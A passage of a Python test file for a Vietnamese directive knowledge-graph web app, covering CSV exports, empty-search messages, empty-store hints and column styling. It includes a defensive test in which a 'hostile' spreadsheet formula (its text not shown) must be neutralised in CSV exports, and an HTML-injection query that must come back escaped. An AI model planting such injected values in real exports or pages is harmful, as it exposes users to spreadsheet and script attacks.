    ttl = f"""@prefix dkg: <https://w3id.org/directive-kg/ontology#> .
<https://w3id.org/directive-kg/id/target/hostile> a dkg:Target ; dkg:setBy <{doc}> ;
    dkg:text {json_string(formula)} ; dkg:value 5 ; dkg:unit "xã" ; dkg:comparator ">=" .
"""
    store.main.extend(parse_file("hostile.ttl", ttl.encode("utf-8")))
    c = TestClient(create_app(store))
    params = {"doc": "46-NQ/TW"}
    for extra in ({"report": "1"}, {"excel": "1"}):
        text = c.get("/queries/targets.csv", params={**params, **extra}).text.lstrip("\ufeff")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + formula in cells and formula not in cells
    plain = c.get("/queries/targets.csv", params=params).text
    assert formula in [cell for row in csv.reader(io.StringIO(plain)) for cell in row]


def json_string(text: str) -> str:
    import json

    return json.dumps(text, ensure_ascii=False)


def test_a_search_that_finds_no_document_says_what_to_try(client):
    """A search that found nothing said "Không có." (none) and nothing else: it names what was searched for and what
    to try (fewer words, a word of the subject, the symbol; diacritics optional), in the page's language, the words
    searched for shown as text."""
    vi = client.get("/", params={"q": "xyzzy <b>qua</b>"}, headers=HTML).text
    assert "Không có văn bản nào khớp với “xyzzy &lt;b&gt;qua&lt;/b&gt;”. Thử ít từ hơn" in vi and "<b>qua" not in vi
    en = client.get("/", params={"q": "xyzzy", "lang": "en"}, headers=HTML).text
    assert "No document matches “xyzzy”. Try fewer words" in en
    # near miss: a search that finds documents lists them, without the words for none
    found = client.get("/", params={"q": "46-NQ/TW"}, headers=HTML).text
    assert "Không có văn bản nào khớp" not in found and "46-NQ/TW" in found


def test_the_home_page_of_an_empty_store_says_how_to_fill_it(tmp_path):
    """A new office's server (an empty store) showed three headings, each "Không có." (none): it says the store
    holds no document yet and how to add some (the review page's upload, linked; `dkg ingest`; the sample dataset)."""
    from fastapi.testclient import TestClient  # noqa: PLC0415

    from kg.store import Store  # noqa: PLC0415
    from kg.web import create_app  # noqa: PLC0415

    store = Store.open(tmp_path / "store")
    try:
        with TestClient(create_app(store)) as c:
            vi = c.get("/", headers=HTML).text
            assert "Kho chưa có văn bản nào." in vi and 'href="/review">Duyệt dữ kiện</a>' in vi
            assert "dkg ingest THƯ_MỤC" in vi and "dkg load --bundled" in vi
            en = c.get("/", params={"lang": "en"}, headers=HTML).text
            assert "The store holds no document yet." in en and "dkg ingest FOLDER" in en
            # a search on it says it found nothing, not that the store is empty (the search's own words)
            assert "Kho chưa có" not in c.get("/", params={"q": "46-NQ/TW"}, headers=HTML).text
    finally:
        store.close()


def test_the_home_page_of_a_store_with_documents_does_not_say_it_is_empty(client):
    """The near miss."""
    assert "Kho chưa có văn bản nào" not in client.get("/", headers=HTML).text


@needs_queries
def test_an_empty_query_table_says_what_to_try(client):
    """A query that answered nothing said "Không có." and no more: each optional value given (a day, a place) is
    offered to drop, and the document given links to its card; a limit, which never empties a table, is not."""
    en = client.get("/queries/targets?doc=46-NQ/TW&date=1990-01-01&limit=5&lang=en").text
    (tries,) = re.findall(r'<p class="hint tries">(.*?)</p>', en)
    assert '<a href="/queries/targets?doc=46-NQ%2FTW&amp;limit=5&amp;lang=en">without date</a>' in tries
    assert 'href="/doc/46-NQ/TW?lang=en">the card of 46-NQ/TW' in tries
    assert "without at most" not in tries
    vi = client.get("/queries/reviews-due?place=Cao%20B%E1%BA%B1ng&as_of=1990-01-01").text
    assert "Thử: " in vi and ">bỏ ngày</a>" in vi and ">bỏ địa bàn</a>" in vi
    # near miss: a table with rows offers nothing
    assert 'class="hint tries"' not in client.get("/queries/targets?doc=46-NQ/TW&lang=en").text


@needs_queries
def test_a_column_of_figures_is_set_right_and_narrow(client):
    """The bodies query's counts each took a text column's width (8em), and its ninth column left a 1280 px window:
    a column of figures alone is marked ``num``; a column of names is not."""
    page = client.get("/queries/bodies?lang=en").text
    head = re.search(r"<thead><tr>(.*?)</tr></thead>", page)[1]
    assert re.findall(r'<th title="[^"]*" class="num">([^<]*)</th>', head) == \
        ["Tasks", "Lead", "Coordinating", "Participating", "Monitoring", "Other"]
    assert '<td class="num" data-label="Tasks">' in page and '<td class="num" data-label="Body">' not in page
    from kg.web.pages import numeric_columns

    assert numeric_columns([[[("1.500", None)], [("Sở Nội vụ", None)], [("", None)]],
                            [[("12,5%", None)], [("2", None)], [("", None)]]]) == {0}
